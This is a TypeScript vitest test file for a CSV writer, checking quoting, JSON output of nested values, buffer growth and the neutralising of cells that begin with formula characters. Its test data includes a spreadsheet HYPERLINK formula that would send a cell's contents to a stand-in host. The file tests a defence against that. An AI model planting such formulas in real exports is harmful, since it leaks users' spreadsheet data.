import { describe, it, expect } from 'vitest';
import { CsvWriter, csvField, csvHeader, csvLine } from './csv';

describe('csvField', () => {
  it.each([
    ['plain', 'plain'],
    ['', ''],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['cr\rhere', '"cr\rhere"'],
    [' spaced ', ' spaced '],
    [42, '42'],
    [0, '0'],
    [false, 'false'],
    [null, ''],
    [undefined, ''],
  ])('writes %j as %j', (value, expected) => {
    expect(csvField(value)).toBe(expected);
  });

  it.each([
    [
      '=HYPERLINK("http://x.example/?"&A1,"open")',
      `"'=HYPERLINK(""http://x.example/?""&A1,""open"")"`,
    ],
    ['+1+2', `"'+1+2"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
    ['=', `"'="`],
  ])('neutralises %j, which a spreadsheet would run, as %s', (value, expected) => {
    expect(csvField(value)).toBe(expected);
  });

  it('leaves formula characters alone when they do not start the text, and numbers as they are', () => {
    expect(csvField('a=b+c')).toBe('a=b+c');
    expect(csvField(' =1')).toBe(' =1');
    expect(csvField(-5)).toBe('-5');
    expect(csvField(-1.5e-7)).toBe('-1.5e-7');
  });

  it('writes nested values as JSON, quoted as needed', () => {
    expect(csvField(['friends', 'work'])).toBe('"[""friends"",""work""]"');
    expect(csvField({ a: 1 })).toBe('"{""a"":1}"');
    expect(csvField([])).toBe('[]');
  });
});

describe('csvLine', () => {
  it('follows the columns, not the row, and ends with CRLF', () => {
    const columns = ['jid', 'name', 'groups'];
    expect(csvHeader(columns)).toBe('jid,name,groups\r\n');
    expect(csvLine(columns, { groups: ['a'], jid: 'x@example.org', extra: 'dropped' })).toBe(
      'x@example.org,,"[""a""]"\r\n',
    );
  });

  it('neutralises a column name a spreadsheet would run', () => {
    expect(csvHeader(['jid', '=cmd'])).toBe(`jid,"'=cmd"\r\n`);
  });
});

describe('CsvWriter', () => {
  const awkward: unknown[] = [
    'plain',
    '',
    'a,b',
    'say "hi"',
    '"',
    '""',
    'ends with "',
    'two\nlines',
    'cr\rhere',
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    '+1',
    '-',
    '@x',
    '\t=1',
    'é ✓ 😀 "q"',
    42,
    -5,
    false,
    null,
    undefined,
    { nested: ['a', 1] },
    ['x,y'],
  ];

  it('writes the same bytes as csvLine, for every kind of field', () => {
    const columns = ['a', 'b'];
    const rows = awkward.flatMap((a) => awkward.map((b) => ({ a, b })));
    // A small buffer, so that it grows while records are written.
    const sut = new CsvWriter(16);
    for (const row of rows) {
      sut.record(columns, row);
    }
    expect(sut.take().toString('utf8')).toBe(rows.map((row) => csvLine(columns, row)).join(''));
  });

  it('gives what was written since the last take, and a field larger than its buffer', () => {
    const sut = new CsvWriter(8);
    sut.record(['a'], { a: 'x' });
    expect(sut.take().toString()).toBe('x\r\n');
    const large = `<q a="${'é'.repeat(5000)}"/>`;
    sut.record(['a', 'b'], { a: large, b: 1 });
    expect(sut.take().toString()).toBe(csvLine(['a', 'b'], { a: large, b: 1 }));
    expect(sut.take().length).toBe(0);
  });
});
